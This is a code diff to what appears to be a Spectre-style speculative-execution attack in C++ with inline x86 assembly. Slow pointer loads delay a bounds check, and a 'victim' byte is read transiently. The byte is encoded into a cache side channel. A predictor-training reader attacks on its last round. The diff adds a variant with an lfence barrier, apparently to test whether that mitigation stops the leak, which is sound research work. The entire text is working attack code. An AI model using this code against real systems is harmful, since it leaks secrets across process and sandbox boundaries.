@@ -11,14 +11,17 @@ extern "C" {
 /// Sends the byte at `victim` if index < the value that `slow` leads to.
 void send_if_below(const void* slow, std::uint64_t index, const std::uint8_t* victim,
                    const std::uint8_t* channel);
+/// The same with a barrier in front of the sending.
+void send_if_below_late(const void* slow, std::uint64_t index, const std::uint8_t* victim,
+                        const std::uint8_t* channel);
 }
 
 asm(R"(
-    .pushsection .text
+    .macro SEND_IF_BELOW name, barrier
     .balign 64
-    .globl send_if_below
-    .type send_if_below, @function
-send_if_below:
+    .globl \name
+    .type \name, @function
+\name:
     movq (%rdi), %rdi
     movq (%rdi), %rdi
     movq (%rdi), %r8
@@ -27,10 +30,16 @@ send_if_below:
     movzbl (%rdx), %eax
     andl $0, %edi
     movzbl (%rdx,%rdi), %eax
+    \barrier
     shlq $12, %rax
     movzbl (%rcx,%rax), %eax
 1:  ret
-    .size send_if_below, . - send_if_below
+    .size \name, . - \name
+    .endm
+
+    .pushsection .text
+    SEND_IF_BELOW send_if_below
+    SEND_IF_BELOW send_if_below_late, lfence
     .popsection
 )");
 
@@ -53,6 +62,9 @@ std::uint64_t mask_of_last(std::uint64_t round) {
 
 class MispredictReader final : public TransientReader {
 public:
+    explicit MispredictReader(Sending sending)
+        : send_(sending == Sending::Late ? &send_if_below_late : &send_if_below) {}
+
     /// The last round is the attack; all rounds run the same instructions, so that nothing but the
     /// limit tells them apart.
     void attempt(const Attempt& attempt) override {
@@ -62,20 +74,21 @@ public:
             const std::uint64_t attack = mask_of_last(round);
             const std::uintptr_t victim = decoy ^ ((decoy ^ target) & attack);
             slow_.flush();
-            send_if_below(slow_.start(), limit & attack,
-                          reinterpret_cast<const std::uint8_t*>(victim), attempt.channel);
+            send_(slow_.start(), limit & attack, reinterpret_cast<const std::uint8_t*>(victim),
+                  attempt.channel);
         }
     }
 
 private:
+    decltype(&send_if_below) send_;
     SlowPointer slow_{limit};
     std::uint8_t zero_ = 0;  ///< training sends 0, which the receiver leaves out
 };
 
 }  // namespace
 
-std::unique_ptr<TransientReader> make_mispredict_reader() {
-    return std::make_unique<MispredictReader>();
+std::unique_ptr<TransientReader> make_mispredict_reader(Sending sending) {
+    return std::make_unique<MispredictReader>(sending);
 }
 
 }  // namespace attacks
